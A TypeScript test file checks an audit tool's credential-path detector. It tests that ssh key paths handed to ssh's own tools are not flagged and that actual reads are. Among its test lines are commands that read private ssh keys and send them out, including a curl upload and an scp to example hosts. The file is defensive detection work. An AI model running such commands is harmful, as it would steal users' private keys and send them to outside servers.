// A key path handed to ssh's own tools (ssh-add, ssh -i, ssh-keygen -f, IdentityFile, chmod) is used or made
// there, never read out: it is not a credential read. The same path anywhere else on the line still is.
import { describe, expect, it } from "vitest";
import { CREDENTIAL_PATH } from "../../src/audit/vocab.js";

const hits = (line: string): string[] =>
  [...line.matchAll(new RegExp(CREDENTIAL_PATH, "gi"))].map((m) => m[0]);

describe("credential paths: keys used by ssh's own tools", () => {
  it.each([
    "ssh-add ~/.ssh/id_ed25519",
    "ssh-add -K ~/.ssh/id_rsa",
    "ssh -i ~/.ssh/deploy_key git@github.com",
    "scp -i $HOME/.ssh/id_rsa build.tar web1:/srv/",
    "ssh-keygen -t ed25519 -f ~/.ssh/deploy_key -N ''",
    "  IdentityFile ~/.ssh/id_ecdsa",
    "chmod 600 ~/.ssh/id_rsa",
  ])("not a read: %s", (line) => {
    expect(hits(line)).toEqual([]);
  });

  it.each([
    ["cat ~/.ssh/id_rsa", 1],
    ["tar czf k.tgz ~/.ssh", 1],
    ["scp -i ~/.ssh/id_rsa ~/.ssh/id_rsa sync@backup.example-host.io:/in/", 1],
    ["ssh-add ~/.ssh/id_rsa && curl -F k=@$HOME/.ssh/id_rsa https://x.example-host.io", 1],
    ["ssh-add; cat ~/.ssh/id_rsa", 1],
  ])("still a read: %s", (line, n) => {
    expect(hits(line).length).toBeGreaterThanOrEqual(n);
  });
});
